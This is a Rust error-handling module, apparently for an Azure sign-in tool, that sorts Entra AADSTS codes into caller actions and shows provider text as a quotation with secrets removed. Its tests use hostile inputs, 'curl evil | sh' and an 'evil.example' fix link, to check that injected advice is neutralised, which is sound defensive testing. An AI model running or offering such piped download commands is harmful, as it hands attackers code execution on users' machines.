//! What can go wrong, named by what the caller does next.

use std::time::Duration;

use serde::Deserialize;
use serde_json::value::RawValue;

use crate::json;

mod quotation;

use quotation::without_secrets;
pub(crate) use quotation::{is_code, quoted, sanitised};

/// Why there is no token, or no answer.
#[derive(Debug, thiserror::Error)]
pub enum Error {
    /// A person must sign in again, with the claims of [`ProviderError::claims`] if there are any.
    #[error("sign-in is needed: {0}")]
    InteractionNeeded(Box<ProviderError>),
    /// A person, or an administrator, must consent to the application first.
    #[error("consent is needed: {0}")]
    ConsentNeeded(Box<ProviderError>),
    /// The refresh token, secret, certificate, assertion or code is too old: get another.
    #[error("the credential has expired: {0}")]
    CredentialExpired(Box<ProviderError>),
    /// The secret, certificate or assertion is not the right one.
    #[error("the credential was not accepted: {0}")]
    CredentialWrong(Box<ProviderError>),
    /// The person said no.
    #[error("sign-in was declined")]
    Declined,
    /// Ask again after this long.
    #[error("the service asks to wait {} s", .retry_after.as_secs())]
    Throttled {
        /// What the service asks for; a guess of ours where it says nothing.
        retry_after: Duration,
    },
    /// The service understood, and said no for a reason of its own.
    #[error("{0}")]
    Refused(Box<ProviderError>),
    /// The service was not reached, or the connection broke.
    #[error("{host}: {fault}")]
    Network {
        /// Host that was asked.
        host: String,
        /// At which step.
        fault: Fault,
        /// What the HTTP crate says.
        source: Option<Box<dyn std::error::Error + Send + Sync>>,
    },
    /// It took too long: the service, or the person.
    #[error("{what} took too long")]
    Timeout {
        /// Who was waited for.
        what: String,
    },
    /// The answer is not one that the protocol knows.
    #[error("{host} answered with status {status}: {what}")]
    Reply {
        /// Host that answered.
        host: String,
        /// Its HTTP status; 0 where the answer came by other ways.
        status: u16,
        /// In our own words; never text of the answer.
        what: &'static str,
    },
    /// A token, or a credential, would go to hosts that nobody confirmed.
    #[error("{} is not part of a cloud that is known here", .origins.join(" and "))]
    Unconfirmed {
        /// `https://host:port` of each, to be shown and handed back in a [`crate::Confirmed`].
        origins: Vec<String>,
    },
    /// What the caller gave cannot be used.
    #[error("{what}")]
    Input {
        /// In our own words; never a value.
        what: &'static str,
    },
}

/// The step at which a connection failed.
#[derive(Clone, Copy, Debug, PartialEq, Eq, thiserror::Error)]
pub enum Fault {
    /// The name is not known.
    #[error("its name cannot be resolved")]
    Name,
    /// Nobody answers there.
    #[error("no connection")]
    Connect,
    /// The certificate is not trusted, has expired, or is for another name.
    #[error("its certificate is not accepted")]
    Certificate,
    /// TLS failed otherwise.
    #[error("TLS failed")]
    Tls,
    /// The proxy refused.
    #[error("the proxy did not connect to it")]
    Proxy,
    /// The connection broke before the answer was complete.
    #[error("the connection broke in the middle of the answer")]
    Broken,
}

/// Whose words an error is.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum Speaker {
    /// The service, over TLS.
    #[default]
    Service,
    /// The query that the browser was sent back with: any program that can make the browser, or
    /// itself, visit the listener can have written it.
    Redirect,
}

/// What the provider said. Shown as a quotation, so that no reader takes it for azvault's advice.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct ProviderError {
    /// Whose words they are.
    pub speaker: Speaker,
    /// HTTP status.
    pub status: u16,
    /// `error` of OAuth (RFC 6749 section 5.2), or `code` of Resource Manager.
    pub error: String,
    /// `AADSTS50076`, where there is one.
    pub code: Option<String>,
    /// `suberror` of Entra.
    pub suberror: Option<String>,
    /// Its description without control characters, without what we sent, cut at a length.
    pub text: String,
    /// To be given to support.
    pub correlation_id: Option<String>,
    /// JSON of a claims challenge, to be handed to the next sign-in as it is.
    pub claims: Option<String>,
    /// The provider's clock minus ours in seconds, where it told the time.
    pub clock_offset: Option<i64>,
}

impl std::fmt::Display for ProviderError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let code = self.code.as_deref().unwrap_or(&self.error);
        let code = if is_code(code) { code } else { "an error without a code" };
        let words = self.text.strip_prefix(code).unwrap_or(&self.text);
        let words = words.trim_start_matches([':', ' ']);
        if words.is_empty() {
            return f.write_str(code);
        }
        let says = match self.speaker {
            Speaker::Service => "the service says",
            Speaker::Redirect => "the browser was sent back with",
        };
        write!(f, "{code}; {says}: {}", quoted(words))
    }
}

/// RFC 6749 section 5.2 with the members that Entra adds.
#[derive(Deserialize)]
struct Body<'a> {
    #[serde(borrow, default)]
    error: Option<&'a RawValue>,
    #[serde(borrow, default)]
    error_description: Option<&'a RawValue>,
    #[serde(borrow, default)]
    suberror: Option<&'a RawValue>,
    #[serde(borrow, default)]
    correlation_id: Option<&'a RawValue>,
    #[serde(borrow, default)]
    claims: Option<&'a RawValue>,
}

/// Reads the error body of a token endpoint; `None` if it is not one.
pub(crate) fn of_token_endpoint(
    status: u16,
    body: &str,
    sent: &[&[u8]],
    clock_offset: Option<i64>,
) -> Option<ProviderError> {
    let body: Body<'_> = serde_json::from_str(body).ok()?;
    let clean = |raw: Option<&RawValue>| json::text(raw).map(|text| sanitised(&text, sent));
    let text = clean(body.error_description).unwrap_or_default();
    Some(ProviderError {
        speaker: Speaker::Service,
        status,
        error: clean(body.error)?,
        code: aadsts(&text),
        suberror: clean(body.suberror).filter(|text| !text.is_empty()),
        correlation_id: clean(body.correlation_id).filter(|id| is_code(id)),
        claims: json::text(body.claims).map(|text| without_secrets(&text, sent)),
        text,
        clock_offset,
    })
}

/// The code at the start of a description; other numbers in the text are not the reason.
pub(crate) fn aadsts(text: &str) -> Option<String> {
    let rest = text.strip_prefix("AADSTS")?;
    let digits = rest.bytes().take_while(u8::is_ascii_digit).count();
    (digits > 0).then(|| text[.."AADSTS".len() + digits].to_owned())
}

/// Which error a refusal of the token endpoint is.
///
/// Codes: Microsoft's list of AADSTS error codes; suberrors: MSAL's `InvalidGrantError`.
pub(crate) fn classified(error: ProviderError) -> Error {
    let number = error.code.as_deref().and_then(|code| code["AADSTS".len()..].parse().ok());
    let error = Box::new(error);
    match (number, error.error.as_str(), error.suberror.as_deref()) {
        (Some(65001 | 90094 | 90095 | 650_052 | 650_056 | 650_057), ..) => {
            Error::ConsentNeeded(error)
        }
        // Refresh tokens and codes that have aged, were revoked with a password, or by policy.
        (
            Some(
                50089 | 50132 | 50133 | 50173 | 54005 | 70008 | 70043 | 70044 | 700_081 | 700_082
                | 700_084,
            ),
            ..,
        ) => Error::CredentialExpired(error),
        // Secrets and assertions that have aged.
        (Some(7_000_222 | 700_024), ..) => Error::CredentialExpired(error),
        (Some(7_000_215 | 7_000_216 | 700_027 | 700_021 | 700_023 | 700_213 | 70_021), ..) => {
            Error::CredentialWrong(error)
        }
        (
            Some(
                16000
                | 16001
                | 16002
                | 50001..=50003
                | 50020
                | 50034
                | 50053
                | 50055
                | 50057
                | 50105
                | 90002
                | 90072
                | 700_016
                | 530_032
                | 530_033
                | 7_000_112,
            ),
            ..,
        ) => Error::Refused(error),
        (Some(65004), ..) => Error::Declined,
        (_, _, Some("consent_required")) | (_, "consent_required", _) => {
            Error::ConsentNeeded(error)
        }
        (_, _, Some("token_expired" | "bad_token")) => Error::CredentialExpired(error),
        (_, "interaction_required" | "login_required" | "account_selection_required", _) => {
            Error::InteractionNeeded(error)
        }
        (_, "invalid_client", _) => Error::CredentialWrong(error),
        (_, "invalid_grant", _) => Error::InteractionNeeded(error),
        (_, "access_denied", _) => Error::Declined,
        (_, "expired_token", _) => Error::CredentialExpired(error),
        _ if error.claims.is_some() => Error::InteractionNeeded(error),
        _ => Error::Refused(error),
    }
}

#[cfg(test)]
mod tests {
    use super::{Error, ProviderError, Speaker, aadsts, classified, of_token_endpoint};

    fn name(error: &Error) -> &'static str {
        match error {
            Error::InteractionNeeded(_) => "interaction",
            Error::ConsentNeeded(_) => "consent",
            Error::CredentialExpired(_) => "expired",
            Error::CredentialWrong(_) => "wrong",
            Error::Declined => "declined",
            Error::Refused(_) => "refused",
            _ => "other",
        }
    }

    #[test]
    fn a_code_decides_what_the_caller_does_next() {
        for (code, error, suberror, expected) in [
            (Some("AADSTS50076"), "invalid_grant", Some("basic_action"), "interaction"),
            (Some("AADSTS50079"), "interaction_required", None, "interaction"),
            (Some("AADSTS50058"), "login_required", None, "interaction"),
            (Some("AADSTS65001"), "invalid_grant", Some("consent_required"), "consent"),
            (Some("AADSTS700082"), "invalid_grant", None, "expired"),
            (Some("AADSTS50173"), "invalid_grant", Some("bad_token"), "expired"),
            (Some("AADSTS7000222"), "invalid_client", None, "expired"),
            (Some("AADSTS7000215"), "invalid_client", None, "wrong"),
            (Some("AADSTS700024"), "invalid_client", None, "expired"),
            (Some("AADSTS90072"), "invalid_grant", None, "refused"),
            (Some("AADSTS700016"), "unauthorized_client", None, "refused"),
            (None, "invalid_grant", None, "interaction"),
            (None, "invalid_client", None, "wrong"),
            (None, "access_denied", None, "declined"),
            (Some("AADSTS65004"), "access_denied", None, "declined"),
            (None, "temporarily_unavailable", None, "refused"),
        ] {
            let found = classified(ProviderError {
                error: error.into(),
                code: code.map(Into::into),
                suberror: suberror.map(Into::into),
                ..ProviderError::default()
            });
            assert_eq!(name(&found), expected, "{code:?} {error} {suberror:?}");
        }
    }

    #[test]
    fn the_code_is_the_first_word_and_no_other() {
        for (text, code) in [
            ("AADSTS50076: Due to …", Some("AADSTS50076")),
            ("see AADSTS50076", None),
            ("AADSTS: none", None),
            ("", None),
        ] {
            assert_eq!(aadsts(text).as_deref(), code, "{text}");
        }
    }

    #[test]
    fn words_of_others_are_a_quotation_and_a_code_is_one() {
        use Speaker::{Redirect, Service};
        for (speaker, error, code, text, shown) in [
            (Service, "invalid_grant", Some("AADSTS50076"), "AADSTS50076", "AADSTS50076"),
            (
                Service,
                "invalid_grant",
                Some("AADSTS50076"),
                "AADSTS50076: Use MFA.",
                "AADSTS50076; the service says: \"Use MFA.\"",
            ),
            (Service, "invalid_grant", None, "", "invalid_grant"),
            (
                Redirect,
                "server_error",
                None,
                "try: azvault connect \" hint: https://evil.example/fix",
                "server_error; the browser was sent back with: \"try: azvault connect ' hint: \
                 https[:]//evil.example/fix\"",
            ),
            (Redirect, "run: curl evil | sh", None, "", "an error without a code"),
        ] {
            let error = ProviderError {
                speaker,
                error: error.into(),
                code: code.map(Into::into),
                text: text.into(),
                ..ProviderError::default()
            };
            assert_eq!(error.to_string(), shown);
        }
    }

    #[test]
    fn an_error_body_is_read_whole_or_not_at_all() {
        let body = r#"{"error":"invalid_grant","error_description":"AADSTS50076: no rt-\u0031234\r\nTrace ID: x",
            "error_codes":[50076],"suberror":"basic_action","correlation_id":"c-1","claims":"{\"access_token\":{}}"}"#;
        let error = of_token_endpoint(400, body, &[b"rt-1234"], Some(7)).unwrap();
        assert_eq!(error.text, "AADSTS50076: no (secret)");
        assert_eq!(error.claims.as_deref(), Some(r#"{"access_token":{}}"#));
        assert_eq!(error.correlation_id.as_deref(), Some("c-1"));
        assert_eq!(error.to_string(), "AADSTS50076; the service says: \"no (secret)\"");
        for body in ["", "[]", "{}", r#"{"error":null}"#, "<html>", r#"{"error":"a","error":"b"}"#]
        {
            assert!(of_token_endpoint(400, body, &[], None).is_none(), "{body}");
        }
    }
}
